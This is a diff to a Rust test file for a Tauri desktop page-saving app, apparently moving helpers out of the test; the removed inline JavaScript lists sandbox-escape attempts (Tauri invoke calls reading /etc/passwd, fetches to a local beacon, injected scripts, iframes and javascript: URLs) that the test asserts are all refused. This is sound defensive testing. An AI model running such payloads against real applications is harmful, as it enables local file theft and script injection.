@@ -14,10 +14,8 @@ mod shelf;
 #[path = "support/webdriver.rs"]
 mod webdriver;
 
-use article::{Page, extract};
 use beacon::Beacon;
 use bus::Bus;
-use library::{ImageContent, Library, NewImage, NewVersion};
 use serde_json::{Value, json};
 use shelf::{Shelf, long_page, page, page_with_images};
 use webdriver::{Window, key};
@@ -333,38 +331,6 @@ fn a_library_that_cannot_be_opened_is_said_in_the_window() {
     assert_eq!(std::fs::read_to_string(&file).unwrap(), "this is no database, it is a letter");
 }
 
-/// Puts a page on the shelf with its HTML as it is: as if nothing had ever cleaned it. Gives the id.
-fn save_uncleaned(shelf: &Shelf, title: &str, html: &str, svg: &[u8]) -> String {
-    let library = Library::open(&shelf.library(), 1).unwrap();
-    let source = page(title, "");
-    let clean = extract(&Page { bytes: source.clone().into_bytes(), ..Page::default() });
-    let image = ImageContent {
-        hash: blake3::hash(svg).to_string(),
-        bytes: svg.to_vec(),
-        media_type: "image/svg+xml".into(),
-        width: 1,
-        height: 1,
-    };
-    let saved = library
-        .save(&NewVersion {
-            now: 1,
-            key: None,
-            asked_url: None,
-            url: None,
-            article: &clean,
-            html,
-            raw: source.as_bytes(),
-            raw_content_type: None,
-            raw_file_name: None,
-            images: vec![NewImage { content: Ok(image), source: None, alt: String::new() }],
-            text_only: false,
-            requests: Vec::new(),
-            tags: Vec::new(),
-        })
-        .unwrap();
-    saved.item.id
-}
-
 #[test]
 #[ignore = "opens the window: script/test"]
 fn a_page_that_was_never_cleaned_runs_loads_and_opens_nothing() {
@@ -374,7 +340,7 @@ fn a_page_that_was_never_cleaned_runs_loads_and_opens_nothing() {
     let image = blake3::hash(svg).to_string();
     let html =
         include_str!("support/hostile.html").replace("BEACON", &beacon.address()).replace("IMAGE", &image);
-    let id = save_uncleaned(&shelf, "A page that was never cleaned", &html, svg);
+    let id = shelf.save_uncleaned("A page that was never cleaned", &html, svg);
     let window = shelf.open_with(&["--allow-host", &beacon.host()]);
     window.run(
         "window.refused = []; document.addEventListener('securitypolicyviolation', (e) => refused.push(e.effectiveDirective))",
@@ -389,7 +355,7 @@ fn a_page_that_was_never_cleaned_runs_loads_and_opens_nothing() {
     window.screenshot("hostile");
 
     // What the page's own code would do, had it run: each way out is tried by a script that does run.
-    let tried = window.run(ATTEMPTS, &[json!(beacon.address()), json!(image)]);
+    let tried = window.run(include_str!("support/attempts.js"), &[json!(beacon.address()), json!(image)]);
     assert_eq!(tried["opened"], Value::Null, "no new window");
     window.wait(
         "every attempt was answered",
@@ -419,45 +385,3 @@ fn a_page_that_was_never_cleaned_runs_loads_and_opens_nothing() {
     drop(window);
     assert_eq!(beacon.heard(), Vec::<String>::new(), "nothing was asked for");
 }
-
-/// Ways out of the window. Each answers `refused` or says what it got.
-const ATTEMPTS: &str = "
-const [beacon, image] = arguments;
-window.answers = [];
-const say = (name, got) => window.answers.push(got === undefined ? `refused ${name}` : `${name}: ${got}`);
-const asked = [
-  ['fetch', () => fetch(`${beacon}/fetch`)],
-  ['fetch of another host', () => fetch('https://example.org/')],
-  ['import', () => import(`${beacon}/import.js`)],
-  ['opener', () => window.__TAURI__.core.invoke('plugin:opener|open_path', { path: '/etc/passwd' })],
-  ['window', () => window.__TAURI__.core.invoke('plugin:webview|create_webview_window', { options: {} })],
-  ['emit', () => window.__TAURI__.core.invoke('plugin:event|emit', { event: 'open-item', payload: {} })],
-  ['file', () => window.__TAURI__.core.invoke('save_page', { job: 'x', input: { file: '/etc/passwd' },
-    options: { tags: [], place: 'inbox', text_only: false, new_version: false }, progress: '__CHANNEL__:0' })],
-  ['file address', () => window.__TAURI__.core.invoke('open_external', { url: 'file:///etc/passwd' })],
-  ['eval', () => Promise.resolve(window.setTimeout('window.hacked = 1', 0)).then(() => { throw 0; })],
-  ['database of the web view', () => navigator.serviceWorker.register('/worker.js')],
-  ['image document', () => fetch(`aldine://image/${image}`)],
-  ['aldine open', () => fetch('aldine://open/0')],
-];
-window.attempts = asked.length;
-for (const [name, ask] of asked) {
-  try { ask().then((got) => say(name, String(got)), () => say(name)); } catch { say(name); }
-}
-try { navigator.sendBeacon(`${beacon}/beacon`); } catch {}
-try { new WebSocket(beacon.replace('http', 'ws')); } catch {}
-try { new EventSource(`${beacon}/events`); } catch {}
-try { new Worker('data:text/javascript,1'); } catch {}
-new Image().src = `${beacon}/new-image`;
-const add = (name, more) => document.body.append(Object.assign(document.createElement(name), more));
-add('script', { textContent: 'window.hacked = \"added script\"' });
-add('script', { src: `${beacon}/added.js` });
-add('iframe', { src: `${beacon}/added.html` });
-add('iframe', { srcdoc: `<script>parent.hacked = 'added frame'</script><img src='${beacon}/added.png'>` });
-add('iframe', { src: `aldine://image/${image}` });
-for (const address of [`${beacon}/location`, `aldine://image/${image}`, 'data:text/html,x', 'javascript:window.hacked=1', 'about:blank', 'file:///etc/passwd']) {
-  try { location.href = address; } catch {}
-}
-const opened = window.open(`${beacon}/open`);
-return { opened: opened === null ? null : String(opened) };
-";
